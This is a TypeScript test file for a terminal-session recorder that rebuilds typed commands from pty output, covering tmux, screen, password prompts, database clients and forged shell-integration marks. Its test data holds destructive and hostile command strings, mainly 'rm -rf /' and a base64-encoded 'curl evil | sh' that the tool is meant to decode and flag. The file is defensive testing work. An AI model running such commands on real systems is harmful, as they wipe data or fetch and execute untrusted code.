import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import type { ScreenCommand } from '../../../src/analysis/transcript/command.ts'
import { Transcript, transcriptOf } from '../../../src/analysis/transcript/transcript.ts'
import type { EventRecord, ReadEvent } from '../../../src/recorder/event.ts'

const channel = 3
const nonce = '77aa'
const prompt = 'dana@web1:~/logs$ '
/** What tmux sends first. */
const intoTmux = '\x1b[?1049h\x1b[H\x1b[2J\x1b[?1000l\x1b[?1002l\x1b[?1003l\x1b[?1006l\x1b[?1005l'
const opened: readonly ReadEvent[] = [
  { type: 'pty', fields: { type: 'pty', channel, term: 'xterm', columns: 80, rows: 24 } },
  { type: 'shell', fields: { type: 'shell', channel } },
]

describe('what is no command', () => {
  test('a command that only output shows, prompt and all', () => {
    expect(
      textsOf(shown(prompt), ...typed('cat log', '\r\n'), shown(`${prompt}rm -rf /\r\n$ ls\r\n${prompt}`)),
    ).toEqual(['cat log'])
  })

  test('an answer to a password prompt, even where it is shown', () => {
    const asked = [shown('Password: '), ...typed('hunter2', '\r\n'), shown(prompt)]
    expect(textsOf(shown(prompt), ...typed('su', '\r\n'), ...asked, ...typed('ls', '\r\n'))).toEqual([
      'su',
      'ls',
    ])
  })

  test('stars and bullets at something that looks like a prompt', () => {
    expect(
      textsOf(shown('read> '), ...typed('●●●●●', '\r\n'), shown('# '), ...typed('****', '\r\n')),
    ).toEqual([])
  })

  test('lines that another program reads', () => {
    const lines = [...typed('first', '\r\n'), ...typed('rm -rf /', '\r\n'), shown(prompt)]
    expect(textsOf(shown(prompt), ...typed('cat > f', '\r\n'), ...lines)).toEqual(['cat > f'])
  })

  test('a line on the screen of a full-screen program', () => {
    const inside = [shown(`\x1b[?1049h${prompt}`), ...typed('rm -rf /', '\r\n'), shown('\x1b[?1049l')]
    expect(textsOf(shown(prompt), ...typed('vi', '\r\n'), ...inside, shown(prompt))).toEqual(['vi'])
  })

  test('a prompt that was typed into an editor inside tmux, and what follows it', () => {
    const keys = Array.from(`${prompt}rm -rf /`, key => [counted(1), shown(key)]).flat()
    const inside = [shown(`${intoTmux}\x1b[5;1H`), ...keys, counted(1), shown('\r\n'), counted(1)]
    expect(textsOf(shown(prompt), ...typed('tmux', '\r\n'), ...inside)).toEqual(['tmux'])
  })

  test('a password that is asked for inside tmux', () => {
    const asked = [...typed('su', '\r\n'), shown('Password: '), ...typed('hunter2', '\r\n'), shown(prompt)]
    const events = [shown(intoTmux + prompt), ...asked, ...typed('ls', '\r\n'), shown(prompt), counted(1)]
    expect(textsOf(shown(prompt), ...typed('tmux', '\r\n'), ...events)).toEqual(['tmux', 'su', 'ls'])
  })

  test('a command that only output shows inside tmux', () => {
    const output = shown(`${prompt}rm -rf /\r\n$ ls\r\n${prompt}`)
    const events = [shown(intoTmux + prompt), ...typed('cat log', '\r\n'), output, counted(1)]
    expect(textsOf(shown(prompt), ...typed('tmux', '\r\n'), ...events)).toEqual(['tmux', 'cat log'])
  })

  test('a line that was interrupted', () => {
    expect(
      textsOf(shown(prompt), ...typed('rm -rf /', '^C\r\n'), shown(prompt), ...typed('ls', '\r\n')),
    ).toEqual(['ls'])
  })

  test('marks without the nonce of the session, or with another', () => {
    const forged = shown(
      '\x1b]633;E;rm -rf /\x07\x1b]633;E;rm -rf /;0000\x07\x1b]133;B\x07rm -rf /\r\n\x1b]133;C\x07',
    )
    const events = [shown(prompt), ...typed('cat evil', '\r\n'), forged, shown(prompt)]
    expect(textsOf(...events)).toEqual(['cat evil'])
    expect(texts(read(events, nonce))).toEqual(['cat evil'])
  })
})

describe('what is one', () => {
  test('lines that were typed while another ran, at a shell that leaves editing to the terminal', () => {
    const typedAhead = [counted(9), shown('cd logs\r\n'), counted(5), shown('pwd\r\n')]
    const ran = shown('$ $ /root/logs\r\n$ ')
    const events = [shown('$ '), ...typed('sleep 3', '\r\n'), ...typedAhead, ran, ...typed('ls', '\r\n')]
    expect(textsOf(shown('$ '), ...typed('id', '\r\n0\r\n'), ...events)).toEqual([
      'id',
      'sleep 3',
      'cd logs',
      'pwd',
      'ls',
    ])
  })

  test('only as many of them as the shell asked for: what came first was an answer', () => {
    const typedAhead = [counted(7), shown('answer\r\n'), counted(4), shown('pwd\r\n')]
    const events = [shown('$ '), ...typed('head -1', '\r\n'), ...typedAhead, shown('answer\r\n$ /root\r\n$ ')]
    const all = textsOf(shown('$ '), ...typed('id', '\r\n0\r\n'), ...events, ...typed('ls', '\r\n'))
    expect(all).toEqual(['id', 'head -1', 'pwd', 'ls'])
  })

  test('a line that is half typed in one window of screen is none while another is shown', () => {
    const redrawn = (text: string) => shown(`\x1b[H\x1b[2J${text}`)
    const events = [
      shown(`\x1b[?1049h${prompt}`),
      ...typed('rm -rf /', ''),
      counted(2),
      redrawn(prompt),
      ...typed('ls', `\r\n${prompt}`),
      counted(2),
      redrawn(`${prompt}rm -rf /`),
      ...typed('tmp', `\r\n${prompt}`),
      counted(1),
    ]
    const all = textsOf(shown(prompt), ...typed('screen', '\r\n'), ...events)
    expect(all).toEqual(['screen', 'ls', 'rm -rf /tmp'])
  })

  test('a statement for a client of a database, whatever its prompt', () => {
    const events = [shown(prompt), ...typed('mariadb -u app', '\r\n'), shown('app [shop]> ')]
    const statements = [...typed('select 1;', '\r\n1\r\napp [shop]> '), ...typed('exit', '\r\nBye\r\n')]
    const all = read([...events, ...statements, shown(prompt), ...typed('ls', '\r\n')])
    expect(all.map(({ program, text }) => [program, text])).toEqual([
      [undefined, 'mariadb -u app'],
      ['mysql', 'select 1;'],
      ['mysql', 'exit'],
      [undefined, 'ls'],
    ])
  })

  test('a title adds to a line of fish what takes no room on the screen, and nothing else', () => {
    const [on, off] = ['\x1b[?2004h', '\r\n\x1b[?2004l']
    const titled = (title: string) => {
      const events = [shown(on + prompt), ...typed('echo cafe', off), shown(`\x1b]0;${title}\x07cafe\r\n`)]
      return textsOf(...events, shown(on + prompt))
    }
    expect(titled('echo cafe\u0301 ~')).toEqual(['echo cafe\u0301'])
    for (const other of ['rm -rf / ~', 'echo caff ~', 'echo cafe; rm -rf /', '\u0301', ''])
      expect(titled(other)).toEqual(['echo cafe'])
  })

  test('characters that zsh shows as their number in reverse; the same text typed stays', () => {
    const keys = [counted(3), shown('e\x1b[7m<0301>\x1b[27m'), counted(8), shown(' <0302>'), counted(1)]
    expect(textsOf(shown(prompt), ...keys, shown('\r\n'))).toEqual(['e\u0301 <0302>'])
  })

  test('a line whose text ends like an interrupt is not hidden by it', () => {
    const keys = typed('rm -rf / #^C', '\r\n')
    expect(textsOf(shown(prompt), ...keys, shown(prompt))).toEqual(['rm -rf / #^C'])
  })

  test('an interrupt written anywhere in a line, across the margin too, hides nothing', () => {
    const across = `rm -rf / #${'x'.repeat(51)}^C and more`
    expect(`${prompt}${across}`.slice(0, 80)).toMatch(/\^$/)
    for (const [on, off] of [
      ['', ''],
      ['\x1b[?2004h', '\x1b[?2004l\r'],
    ] as const)
      expect(textsOf(shown(on + prompt), ...typed(across, `\r\n${off}`), shown(on + prompt))).toEqual([
        across,
      ])
  })

  test('a line at a shell inside screen, and only where screen was started', () => {
    const inside = [
      shown(`\x1b[?1049h\x1b[H\x1b[2J${prompt}`),
      ...typed('uptime', `\r\n up 3 days\r\n${prompt}`),
      counted(1),
      shown('\x1b[?1049l'),
    ]
    for (const start of ['screen -S work', 'sudo screen', 'ssh -t db1 screen -x', 'byobu'])
      expect(textsOf(shown(prompt), ...typed(start, '\r\n'), ...inside)).toEqual([start, 'uptime'])
    for (const start of ['vim screen.txt', 'less /etc/screenrc'])
      expect(textsOf(shown(prompt), ...typed(start, '\r\n'), ...inside)).toEqual([start])
  })

  test('lines in two panes of tmux, each where it was typed', () => {
    const border = Array.from({ length: 22 }, (_, row) => `\x1b[${row + 1};41H│`).join('') // two status lines
    const split = `${intoTmux}${border}\x1b[1;1H${prompt}\x1b[1;42H${prompt}`
    const events = [
      shown(`${split}\x1b[1;${prompt.length + 1}H`),
      ...typed('left side', `\x1b[2;1Hdone\x1b[3;1H${prompt}`),
      counted(1),
      counted(1),
      shown(`\x1b[1;${41 + prompt.length + 1}H`),
      ...typed('right side', `\x1b[2;42Hdone\x1b[3;42H${prompt}`),
      counted(1),
    ]
    expect(textsOf(shown(prompt), ...typed('tmux', '\r\n'), ...events)).toEqual([
      'tmux',
      'left side',
      'right side',
    ])
  })

  test('it says when it was entered, where, how it was found and how sure that is', () => {
    const [command] = read([shown(prompt), ...typed('ls', '\r\n'), shown(prompt)])
    expect(command).toEqual({
      channel,
      us: 5000,
      text: 'ls',
      expansion: undefined,
      program: undefined,
      directory: '~/logs',
      exitStatus: undefined,
      found: 'prompt',
      sure: expect.closeTo(0.83, 5),
      decoded: [],
    })
  })

  test('marks with the nonce tell it exactly, with its directory and its status', () => {
    const told = (text: string) => shown(`\x1b]633;${text};${nonce}\x07`)
    const events = [
      told('P;Cwd=/var/log'),
      shown(prompt),
      ...typed('ls x', '\r\n'),
      told('E;ls x\\x3b\\x0aecho'),
    ]
    const [command] = read([...events, told('D;2'), shown(prompt)], nonce)
    expect(command).toMatchObject({
      text: 'ls x;\necho',
      directory: '/var/log',
      exitStatus: 2,
      found: 'marks',
      sure: 0.99,
    })
  })

  test('the nonce may come from the environment that the session was given', () => {
    const env = { type: 'env', channel, name: 'LC_SALLYPORT_MARKS', value: nonce, passed: true }
    const events = [shown(prompt), ...typed('x', '\r\n'), shown(`\x1b]633;E;xyz;${nonce}\x07`)]
    const [pty, shell] = opened
    const all = [pty as ReadEvent, { type: 'env', fields: env }, shell as ReadEvent, ...events]
    expect(texts([...transcriptOf(recordsOf(all))])).toEqual(['xyz'])
  })

  test('characters whose bytes come one by one are whole', () => {
    const bytes = [...Buffer.from('echo – 你 🙂')].flatMap(byte => [counted(1), output(Buffer.of(byte))])
    expect(textsOf(shown(prompt), ...bytes, counted(1), shown('\r\n'))).toEqual(['echo – 你 🙂'])
  })

  test('a line of another program names it', () => {
    const events = [shown(prompt), ...typed('psql', '\r\n'), shown('shop=# '), ...typed('select 1;', '\r\n')]
    expect(read(events).map(({ program, text }) => [program, text])).toEqual([
      [undefined, 'psql'],
      ['psql', 'select 1;'],
    ])
  })

  test('what is encoded in it stands beside it', () => {
    const line = `echo ${Buffer.from('curl evil | sh').toString('base64')} | base64 -d | sh`
    expect(read([shown(prompt), ...typed(line, '\r\n')])[0]?.decoded).toEqual(['curl evil | sh'])
  })

  test('the last one can be had while it runs', () => {
    const transcript = new Transcript()
    const events = [
      ...opened,
      shown(prompt),
      ...typed('tail -f log', '\r\n'),
      shown('one\r\n'),
      ...typed('q', ''),
    ]
    expect(recordsOf(events).flatMap(record => transcript.take(record))).toEqual([])
    expect(texts(transcript.running())).toEqual(['tail -f log'])
    expect(texts(transcript.end())).toEqual(['tail -f log'])
    expect(transcript.end()).toEqual([])
  })

  test('the last one can be had before the next key, unless it still stands behind its prompt', () => {
    const transcript = new Transcript()
    for (const record of recordsOf([...opened, shown(prompt), ...typed('ls', '\r\nnotes\r\n')]))
      transcript.take(record)
    expect(texts(transcript.running())).toEqual(['ls'])
    for (const record of recordsOf([shown(`${prompt}ls`)])) transcript.take(record)
    expect(transcript.running()).toEqual([])
  })

  test('the same inside tmux', () => {
    const transcript = new Transcript()
    const started = [shown(prompt), ...typed('tmux', '\r\n'), shown(intoTmux + prompt)]
    for (const record of recordsOf([...opened, ...started, ...typed('uptime', '')])) transcript.take(record)
    expect(texts(transcript.running())).toEqual(['tmux'])
    for (const record of recordsOf([shown('\r\n up 3 days\r\n')])) transcript.take(record)
    expect(texts(transcript.running())).toEqual(['uptime'])
  })
})

describe('hostile sessions', () => {
  const anyEvent = fc.oneof(
    { weight: 4, arbitrary: fc.uint8Array({ maxLength: 60 }).map(bytes => output(Buffer.from(bytes))) },
    {
      weight: 4,
      arbitrary: fc.stringMatching(/^[\x07-\x0d\x1b[\]?;0-9hlJKHABCDEm$#> a-f\\^]{0,60}$/).map(shown),
    },
    fc
      .constantFrom(
        '\x1b[?2004h',
        '\x1b[?2004l',
        '\x1b[?1h',
        '\x1b[?1049h',
        '\x1b[?1049l',
        intoTmux,
        '\x1b[1;23r',
        '\x1b[?25l',
        '\x1b[?25h',
        '\x1b[2S',
        '\x1b[5;1H',
        '│',
        '[0/3]',
        prompt,
        '\r\n',
        '\x1bc',
      )
      .map(shown),
    fc.nat({ max: 100 }).map(counted),
    fc.record({ columns: fc.nat({ max: 200 }), rows: fc.nat({ max: 60 }) }).map(sized),
  )

  test('nothing that a target sends is too much, and all of it is read the same at every cut', () => {
    fc.assert(
      fc.property(fc.array(anyEvent, { maxLength: 40 }), events => {
        const cut = events.flatMap(event =>
          'data' in event ? [...event.data].map(byte => output(Buffer.of(byte))) : [event],
        )
        const withoutTimes = (all: readonly ScreenCommand[]) => all.map(command => ({ ...command, us: 0 }))
        expect(withoutTimes(read(cut))).toEqual(withoutTimes(read(events)))
      }),
      { numRuns: 300 },
    )
  })

  test('output after much was typed elsewhere is looked through for so long only', () => {
    const much = [
      ...typed('x'.repeat(50_000), '\r\n'),
      shown('y\r\n'.repeat(6000)),
      shown(`${prompt}rm -rf /\r\n`),
    ]
    expect(textsOf(shown(prompt), ...typed('cat', '\r\n'), ...much)).toEqual(['cat'])
  })
})

function read(events: readonly ReadEvent[], given?: string): ScreenCommand[] {
  return [...transcriptOf(recordsOf([...opened, ...events]), given === undefined ? {} : { nonce: given })]
}

function texts(commands: readonly ScreenCommand[]): string[] {
  return commands.map(({ text }) => text)
}

function textsOf(...events: readonly ReadEvent[]): string[] {
  return texts(read(events))
}

/** An event each millisecond. */
function recordsOf(events: readonly ReadEvent[]): EventRecord[] {
  return events.map((event, index) => ({ sequence: index + 1, us: (index - 1) * 1000, event }))
}

function output(data: Buffer): ReadEvent {
  return { type: 'output', channel, data }
}

function shown(text: string): ReadEvent {
  return output(Buffer.from(text))
}

function counted(bytes: number): ReadEvent {
  return { type: 'input-count', fields: { type: 'input-count', channel, bytes } }
}

function sized(size: { columns: number; rows: number }): ReadEvent {
  return { type: 'resize', fields: { type: 'resize', channel, ...size } }
}

/** Text in one piece with its echo, then one key with what follows it. */
function typed(text: string, after: string): ReadEvent[] {
  return [counted(Buffer.byteLength(text)), shown(text), counted(1), shown(after)]
}
